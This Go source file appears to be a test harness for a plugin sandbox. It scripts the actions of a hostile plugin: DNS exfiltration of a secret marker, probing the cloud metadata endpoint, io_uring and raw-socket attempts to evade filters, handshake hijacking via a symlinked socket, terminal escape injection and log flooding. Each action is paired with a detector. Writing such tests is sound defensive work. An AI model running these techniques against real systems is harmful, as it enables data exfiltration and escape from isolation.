package hostile

import (
	"context"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// reach bounds an attempt to connect.
const reach = 500 * time.Millisecond

func dial(network, address string) {
	conn, err := net.DialTimeout(network, address, reach)
	if err == nil {
		_, _ = conn.Write([]byte("x"))
		_ = conn.Close()
	}
}

func heardTCP(f *field, _ *guest) bool      { return f.tcp.heard() }
func heardUDP(f *field, _ *guest) bool      { return f.udp.heard() }
func heardAbstract(f *field, _ *guest) bool { return f.abstract.heard() }
func heardSibling(f *field, _ *guest) bool  { return f.sibling.heard() }

// onNetworks are attacks that go round the broker.
func onNetworks() []attack {
	return []attack{
		{name: "tcp", what: "connects over TCP", do: func(t targets) { dial("tcp", t.TCP) }, seen: heardTCP},
		{
			name: "mptcp", what: "connects over Multipath TCP",
			do: func(t targets) {
				var d net.Dialer
				d.SetMultipathTCP(true)
				d.Timeout = reach
				if conn, err := d.Dial("tcp", t.TCP); err == nil {
					_ = conn.Close()
				}
			},
			seen: heardTCP,
		},
		{name: "udp", what: "sends a datagram", do: func(t targets) { dial("udp", t.UDP) }, seen: heardUDP},
		{
			name: "dns", what: "asks a resolver of its choice, with a secret in the name",
			do: func(t targets) {
				r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
					return new(net.Dialer).DialContext(ctx, "udp", t.UDP)
				}}
				ctx, cancel := context.WithTimeout(context.Background(), reach)
				defer cancel()
				_, _ = r.LookupHost(ctx, t.Marker+".example")
			},
			seen: heardUDP,
		},
		{name: "abstract-socket", what: "connects to an abstract Unix socket", do: func(t targets) { dial("unix", t.Abstract) }, seen: heardAbstract},
		{
			name: "sibling-socket", what: "connects to another plugin's socket",
			do: func(t targets) { dial("unix", t.Socket) }, seen: heardSibling, remains: 2,
		},
		{
			name: "io-uring", what: "connects by io_uring, which no filter of system calls sees",
			do: func(t targets) {
				var params [120]byte // struct io_uring_params
				if fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, addressOf(params[:]), 0); errno == 0 {
					_ = unix.Close(int(fd))
					loot("a ring" + t.Marker)
				}
			},
			left: lootIs, unproven: "some kernels have no io_uring",
		},
		{
			name: "raw-socket", what: "opens a raw socket",
			do: func(t targets) {
				for _, family := range []int{unix.AF_INET, unix.AF_PACKET} {
					if _, err := unix.Socket(family, unix.SOCK_RAW, unix.IPPROTO_ICMP); err == nil {
						loot("a raw socket" + t.Marker)
					}
				}
			},
			left: lootIs, unproven: "the kernel lets only root do that",
		},
		{
			name: "netlink", what: "lists the host's network interfaces",
			do: func(t targets) {
				all, _ := net.Interfaces()
				for _, i := range all {
					if i.Flags&net.FlagLoopback == 0 {
						loot(i.Name + t.Marker)
					}
				}
			},
			left: lootIs,
		},
		{
			name: "metadata", what: "asks the cloud's metadata service at 169.254.169.254",
			do: func(t targets) {
				if conn, err := net.DialTimeout("tcp", "169.254.169.254:80", reach); err == nil {
					_ = conn.Close()
					loot("metadata" + t.Marker)
				}
			},
			left: lootIs, unproven: "there may be no such service here; tcp shows the same way",
		},
		{
			name: "bind", what: "listens where others would look for the gateway",
			do: func(targets) {
				l, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					loot("listens nowhere")
					return
				}
				loot("listens " + l.Addr().String())
				go func() { _, _ = l.Accept() }()
			},
			seen: func(_ *field, g *guest) bool { return g.answers() },
		},
	}
}

// onProtocol are attacks on what plugin and host say to each other.
func onProtocol() []attack {
	const why = "the host's own code stops it in each tier"
	return []attack{
		{
			name: "handshake-tcp", what: "has the host dial an address", always: why,
			do: func(t targets) { announce("tcp", t.TCP) }, seen: heardTCP,
		}, {
			name: "handshake-socket", what: "has the host dial another plugin's socket", always: why,
			do: func(t targets) { announce("unix", t.Socket) }, seen: heardSibling,
		}, {
			name: "handshake-link", what: "has the host dial another's socket by a link", always: why,
			do: func(t targets) {
				at := os.Getenv("PLUGIN_UNIX_SOCKET_DIR") + "/link"
				_ = os.Symlink(t.Socket, at)
				announce("unix", at)
			},
			seen: heardSibling,
		}, {
			name: "log-card", what: "logs a card number", always: why,
			do:   func(targets) { loot("card " + cardNumber) },
			left: func(_ *field, g *guest) bool { return g.said(cardNumber) },
		}, {
			name: "log-control", what: "logs control characters for an operator's terminal", always: why,
			do:   func(targets) { loot("\x1b[2J\x07") },
			left: func(_ *field, g *guest) bool { return g.said("\x1b") || g.said("\x07") },
		}, {
			name: "log-parser", what: "logs lines that end go-plugin's host", always: why,
			do: func(targets) {
				_, _ = os.Stderr.WriteString("{\"@message\":1}\n{\"@level\":[]}\n{\"@timestamp\":{}}\n")
			},
			seen: func(_ *field, g *guest) bool { return g.err != nil },
		}, {
			name: "log-flood", what: "logs without end", always: why,
			do: func(targets) {
				for range 200_000 {
					_, _ = os.Stderr.WriteString("one line of very many that nobody reads\n")
				}
			},
			seen: func(_ *field, g *guest) bool { return g.log.size() > 2<<20 },
		}, {
			name: "answer-huge", what: "answers more than the host's memory should hold", always: why,
			do: func(targets) {}, seen: func(_ *field, g *guest) bool { return g.answersHugely() },
		},
	}
}

// cardNumber is a test number that every PSP knows.
const cardNumber = "4242424242424242"

// announce makes a handshake that leads the host elsewhere, and stays.
func announce(network, address string) {
	_, _ = os.Stdout.WriteString("1|1|" + network + "|" + address + "|grpc\n")
	select {}
}
